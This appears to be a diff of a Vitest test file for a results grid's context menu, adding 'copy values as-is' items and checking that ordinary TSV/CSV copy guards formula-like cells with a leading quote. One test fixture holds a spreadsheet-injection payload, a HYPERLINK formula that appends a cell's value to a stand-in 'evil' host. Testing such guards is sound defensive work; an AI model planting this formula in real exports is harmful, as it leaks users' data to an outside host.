@@ -1,5 +1,5 @@
-// The results grid's menu, through real mouse and key events: copy as TSV or CSV, the whole
-// value, select all; the WAI-ARIA menu keys; the focus back on the grid.
+// The results grid's menu, through real mouse and key events: copy as TSV or CSV (formula guard
+// on), copy values as-is, the whole value, select all; the WAI-ARIA menu keys; the focus back on the grid.
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import type { CellValue, RowPage } from "./api";
 import { ResultGrid } from "./grid";
@@ -28,8 +28,8 @@ afterEach(() => {
   document.body.innerHTML = "";
 });
 
-async function mount() {
-  const fetchRows = vi.fn(async (_id: string, offset: number, limit: number): Promise<RowPage> => ({ rows: rows(offset, limit) }));
+async function mount(rowsOf = rows) {
+  const fetchRows = vi.fn(async (_id: string, offset: number, limit: number): Promise<RowPage> => ({ rows: rowsOf(offset, limit) }));
   const copy = vi.fn((_text: string) => Promise.resolve());
   const onExpand = vi.fn();
   const onCopied = vi.fn();
@@ -63,8 +63,15 @@ describe("the grid's menu", () => {
     expect(grid.selection).toEqual({ firstRow: 3, lastRow: 3, firstColumn: 1, lastColumn: 1 });
     expect(menu()?.getAttribute("aria-label")).toBe("Result");
     expect(menu()?.style.left).toBe("120px");
-    expect(items().map((item) => item.querySelector(".grid-menu-label")?.textContent)).toEqual(["Copy as TSV", "Copy as CSV", "Show the whole value", "Select all rows"]);
-    expect(items().map((item) => item.getAttribute("aria-keyshortcuts"))).toEqual(["Control+C", "Control+Shift+C", "Enter", "Control+A"]);
+    expect(items().map((item) => item.querySelector(".grid-menu-label")?.textContent)).toEqual([
+      "Copy as TSV",
+      "Copy as CSV",
+      "Copy values as-is (TSV)",
+      "Copy values as-is (CSV)",
+      "Show the whole value",
+      "Select all rows",
+    ]);
+    expect(items().map((item) => item.getAttribute("aria-keyshortcuts"))).toEqual(["Control+C", "Control+Shift+C", null, null, "Enter", "Control+A"]);
     expect(document.activeElement).toBe(items()[0]);
     grid.destroy();
   });
@@ -95,12 +102,12 @@ describe("the grid's menu", () => {
     expect(grid.selection).toEqual({ firstRow: 1, lastRow: 1, firstColumn: 0, lastColumn: 0 });
     const open = menu() as HTMLElement;
     key(open, "End");
-    expect(document.activeElement).toBe(items()[3]);
+    expect(document.activeElement).toBe(items()[5]);
     key(open, "ArrowDown");
     expect(document.activeElement).toBe(items()[0]);
     key(open, "ArrowUp");
     key(open, "ArrowUp");
-    expect(document.activeElement).toBe(items()[2]);
+    expect(document.activeElement).toBe(items()[4]);
     const escape = key(open, "Escape");
     expect(escape.defaultPrevented).toBe(true);
     expect(menu()).toBeNull();
@@ -114,7 +121,7 @@ describe("the grid's menu", () => {
     document.activeElement?.dispatchEvent(native);
     expect(native.defaultPrevented).toBe(true);
     expect(document.querySelectorAll("[role=menu]")).toHaveLength(1);
-    items()[2].click();
+    items()[4].click();
     expect(onExpand).toHaveBeenCalledWith("id", 1);
     expect(menu()).toBeNull();
     grid.destroy();
@@ -129,7 +136,7 @@ describe("the grid's menu", () => {
     expect(event.defaultPrevented).toBe(true);
     expect(menu()).not.toBeNull();
     expect(grid.selection).toEqual({ firstRow: 0, lastRow: 0, firstColumn: 1, lastColumn: 1 });
-    expect(items()[2].getAttribute("aria-disabled")).toBeNull();
+    expect(items()[4].getAttribute("aria-disabled")).toBeNull();
     key(menu() as HTMLElement, "Tab");
     expect(menu()).toBeNull();
     expect(document.activeElement).toBe(root);
@@ -140,14 +147,13 @@ describe("the grid's menu", () => {
     const { grid, onCopied } = await mount();
     root.querySelector('.grid-head-cell[data-column="1"]')?.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
     expect(grid.selection).toEqual({ firstRow: 0, lastRow: 49, firstColumn: 1, lastColumn: 1 });
-    expect(items()[2].getAttribute("aria-disabled")).toBe("true");
+    expect(items()[4].getAttribute("aria-disabled")).toBe("true");
     // Disabled items are skipped by the arrows and do nothing when clicked.
-    key(menu() as HTMLElement, "ArrowDown");
-    key(menu() as HTMLElement, "ArrowDown");
-    expect(document.activeElement).toBe(items()[3]);
-    items()[2].click();
+    for (let i = 0; i < 4; i++) key(menu() as HTMLElement, "ArrowDown");
+    expect(document.activeElement).toBe(items()[5]);
+    items()[4].click();
     expect(menu()).not.toBeNull();
-    items()[3].click();
+    items()[5].click();
     expect(onCopied).toHaveBeenCalledWith("Selected all 50 rows.");
     expect(grid.selection).toEqual({ firstRow: 0, lastRow: 49, firstColumn: 0, lastColumn: 1 });
 
@@ -155,6 +161,48 @@ describe("the grid's menu", () => {
     expect(menu()).not.toBeNull();
     document.body.dispatchEvent(new MouseEvent("mousedown", { bubbles: true }));
     expect(menu()).toBeNull();
+    grid.destroy();
+  });
+
+  it("copies values as-is from its own items, where Copy as TSV or CSV guards them", async () => {
+    const hostile = (offset: number, limit: number): CellValue[][] =>
+      Array.from({ length: limit }, (_, i) => [offset + i - 1, offset + i === 0 ? '=HYPERLINK("http://evil/?"&A1,"x")' : "@SUM(A1)"]);
+    const { grid, copy, onCopied } = await mount(hostile);
+    grid.select({ row: 0, column: 0 }, { row: 1, column: 1 });
+    const pick = async (label: string) => {
+      root.querySelector('.grid-row[data-index="0"] .grid-cell[data-column="1"]')?.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
+      const item = items().find((candidate) => candidate.querySelector(".grid-menu-label")?.textContent === label);
+      expect(item?.getAttribute("aria-disabled")).toBeNull();
+      const calls = copy.mock.calls.length;
+      item?.click();
+      await vi.waitFor(() => expect(copy).toHaveBeenCalledTimes(calls + 1));
+      expect(menu()).toBeNull();
+    };
+
+    await pick("Copy values as-is (TSV)");
+    expect(copy).toHaveBeenLastCalledWith('id\tnote\n-1\t"=HYPERLINK(""http://evil/?""&A1,""x"")"\n0\t@SUM(A1)\n');
+    await vi.waitFor(() => expect(onCopied).toHaveBeenLastCalledWith("Copied 2 rows as TSV, values as-is (no formula guard)."));
+
+    await pick("Copy values as-is (CSV)");
+    expect(copy).toHaveBeenLastCalledWith('id,note\r\n-1,"=HYPERLINK(""http://evil/?""&A1,""x"")"\r\n0,@SUM(A1)\r\n');
+    await vi.waitFor(() => expect(onCopied).toHaveBeenLastCalledWith("Copied 2 rows as CSV, values as-is (no formula guard)."));
+
+    await pick("Copy as TSV");
+    expect(copy).toHaveBeenLastCalledWith(`id\tnote\n-1\t"'=HYPERLINK(""http://evil/?""&A1,""x"")"\n0\t'@SUM(A1)\n`);
+    await vi.waitFor(() =>
+      expect(onCopied).toHaveBeenLastCalledWith("Copied 2 rows as TSV; 2 values starting like a formula got a leading ' (menu: Copy values as-is)."),
+    );
+    expect(grid.selection).toEqual({ firstRow: 0, lastRow: 1, firstColumn: 0, lastColumn: 1 });
+    grid.destroy();
+  });
+
+  it("offers no copy at all, guarded or as-is, when the window has no clipboard", async () => {
+    const grid = new ResultGrid(root, { fetchRows: async (_id, offset, limit) => ({ rows: rows(offset, limit) }), onError: () => undefined, overscan: 2 });
+    grid.show(RESULT);
+    await frame();
+    root.querySelector('.grid-row[data-index="0"] .grid-cell[data-column="1"]')?.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
+    expect(items().slice(0, 4).map((item) => item.getAttribute("aria-disabled"))).toEqual(["true", "true", "true", "true"]);
+    key(menu() as HTMLElement, "Escape");
     grid.destroy();
   });
 });
